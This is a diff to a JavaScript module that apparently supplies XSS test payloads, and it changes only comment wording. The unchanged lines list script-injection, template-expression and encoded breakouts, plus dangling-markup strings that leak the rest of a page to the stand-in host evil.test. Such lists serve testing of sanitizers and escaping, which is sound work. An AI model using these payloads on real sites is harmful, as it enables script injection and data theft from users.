@@ -1,4 +1,4 @@
-/** Ways out of an attribute. */
+/** Breakouts from an attribute. */
 const ATTRIBUTES = [
   '"><script>hit()</script>',
   "'><script>hit()</script>",
@@ -16,7 +16,7 @@ const ATTRIBUTES = [
   '"style="background:url(//evil.test)"',
 ]
 
-/** Ways out of a script, of JSON in a script, and out of texts that are not parsed. */
+/** Breakouts from scripts, JSON in scripts and raw text elements. */
 const SCRIPTS = [
   '</script><script>hit()</script>',
   '</script ><svg onload=hit()>',
@@ -45,7 +45,7 @@ const SCRIPTS = [
   '--!><img src=x onerror=hit()>',
 ]
 
-/** What templates would fill in. */
+/** Expressions of template engines. */
 const TEMPLATES = [
   '${hit()}',
   '`${hit()}`',
@@ -60,7 +60,7 @@ const TEMPLATES = [
   '<div v-html="\'<img src=x onerror=hit()>\'" ng-app x-init=hit() hx-on:load=hit()></div>',
 ]
 
-/** The same in other writings. */
+/** Other encodings of markup. */
 const ENCODINGS = [
   '%3Cscript%3Ehit()%3C/script%3E',
   '%253Cscript%253Ehit()%253C/script%253E',
@@ -88,7 +88,7 @@ const ENCODINGS = [
   '\u{1f1e6}<script\u{e0001}>hit()</script>',
 ]
 
-/** Quotes that never close, to carry away what stands behind them. */
+/** Unclosed quotes that capture the markup after them. */
 const DANGLING = [
   "<img src='//evil.test/?",
   '<a href="//evil.test/?',
@@ -104,5 +104,5 @@ const DANGLING = [
   '<style>@import//evil.test?',
 ]
 
-/** Ways out of the place that a text was put into. */
+/** Breakouts from the context that a text is inserted into. */
 export const BREAKOUTS = { ATTRIBUTES, SCRIPTS, TEMPLATES, ENCODINGS, DANGLING }
